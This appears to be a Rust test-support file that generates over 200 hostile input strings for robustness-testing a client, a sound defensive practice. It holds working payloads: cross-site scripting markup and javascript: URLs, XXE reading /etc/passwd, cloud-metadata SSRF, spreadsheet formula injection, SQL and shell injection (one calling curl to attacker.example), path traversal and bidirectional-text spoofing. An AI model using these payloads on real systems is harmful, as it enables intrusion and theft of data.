//! Strings that break careless clients: script, markup, URLs, bidirectional, invisible and huge text, templates,
//! formulas.

const ELEMENTS: [&str; 14] = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "button",
    "a href=x",
];
const HANDLERS: [&str; 8] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onstart",
    "onclick",
    "onanimationstart",
];

const MARKUP: [&str; 30] = [
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "</textarea><script>window.__pwned=1</script>",
    "</style><script>window.__pwned=1</script>",
    "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "\"><img src=x onerror=window.__pwned=1>",
    "'><img src=x onerror=window.__pwned=1>",
    "` onmouseover=window.__pwned=1 x=`",
    "\" autofocus onfocus=window.__pwned=1 x=\"",
    "' style='position:fixed;inset:0;z-index:9999' x='",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<form action=https://attacker.example/><input name=q>",
    "<style>*{background:url(https://attacker.example/x)}</style>",
    "<template shadowrootmode=open><script>window.__pwned=1</script></template>",
    "<!--<img src=\"--><img src=x onerror=window.__pwned=1>",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "<a href=\"javascript:window.__pwned=1\">x</a>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<x onclick=window.__pwned=1 style=display:block>x</x>",
    "]]><b>x</b>",
];

const URLS: [&str; 14] = [
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    " javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>",
    "vbscript:msgbox(1)",
    "//attacker.example/x.png",
    "https://attacker.example/x.png?steal",
    "http://169.254.169.254/latest/meta-data/",
    "blob:https://attacker.example/1",
    "file:///etc/passwd",
    "https://webexapis.com@attacker.example/",
    "https://webexapis.com.attacker.example/v1/people",
];

const TEXT: [&str; 44] = [
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{{7*7}}{% endraw %}",
    "{0} {} %s %n %x",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "-1",
    "1e309",
    "0x7fffffff",
    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "a,b;c\td\"e\"\r\nf",
    "'; DROP TABLE people;--",
    "' OR '1'='1",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "| cat /etc/passwd",
    "'\"; curl https://attacker.example/ #",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "%0d%0aSet-Cookie:%20a=b",
    "line one\nline two\r\nline three",
    "a\u{0}b",
    "\u{7}\u{8}\u{1b}[31mred\u{1b}[0m",
    "\u{feff}byte order mark",
    "\u{fffd}\u{ffff}\u{fffe}",
    "ﷺ ﷽ 𒐫 𒈙 ⸻",
    "Z̴̡̢͎̘̙̞̫̬̭̺̻͓͕̱̮̲̀́̂̃̄̅̆̇̈̉a̷̧̨̛̖̗̘̙̜̝̞l̸̡̢̀́̂̃g̶̡̢̀́̂o̵̡̢",
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀🇦🇶",
    "İstanbul ıI ß ẞ ﬁ ſ Å Å",
    "раураl.com",
    " ",
];

const INVISIBLE: [(&str, char); 20] = [
    ("right-to-left override", '\u{202e}'),
    ("left-to-right override", '\u{202d}'),
    ("right-to-left embedding", '\u{202b}'),
    ("left-to-right embedding", '\u{202a}'),
    ("pop directional", '\u{202c}'),
    ("right-to-left isolate", '\u{2067}'),
    ("left-to-right isolate", '\u{2066}'),
    ("first strong isolate", '\u{2068}'),
    ("pop isolate", '\u{2069}'),
    ("right-to-left mark", '\u{200f}'),
    ("Arabic letter mark", '\u{061c}'),
    ("zero width space", '\u{200b}'),
    ("zero width joiner", '\u{200d}'),
    ("zero width non-joiner", '\u{200c}'),
    ("word joiner", '\u{2060}'),
    ("soft hyphen", '\u{00ad}'),
    ("Hangul filler", '\u{3164}'),
    ("line separator", '\u{2028}'),
    ("no-break space", '\u{00a0}'),
    ("tag letter", '\u{e0041}'),
];

/// Returns all payloads: more than 200, no two equal.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [&MARKUP[..], &URLS[..], &TEXT[..]]
        .concat()
        .into_iter()
        .map(str::to_owned)
        .collect();
    for element in ELEMENTS {
        for handler in HANDLERS {
            all.push(format!("<{element} {handler}=window.__pwned=1>"));
        }
    }
    for (name, mark) in INVISIBLE {
        all.push(format!("{name}{mark}gnp.exe"));
        all.push(mark.to_string().repeat(40));
    }
    all.push("A".repeat(10_240));
    all.push("long words ".repeat(930));
    all.push("漢字".repeat(1700));
    all.push("<b>".repeat(3400));
    all.push("\u{301}".repeat(500));
    all.push(String::new());
    all
}

#[cfg(test)]
mod tests {
    use super::payloads;
    use std::collections::HashSet;

    #[test]
    fn has_two_hundred_distinct_payloads() {
        let all = payloads();
        assert!(all.len() >= 200, "{}", all.len());
        assert_eq!(all.iter().collect::<HashSet<_>>().len(), all.len());
    }
}
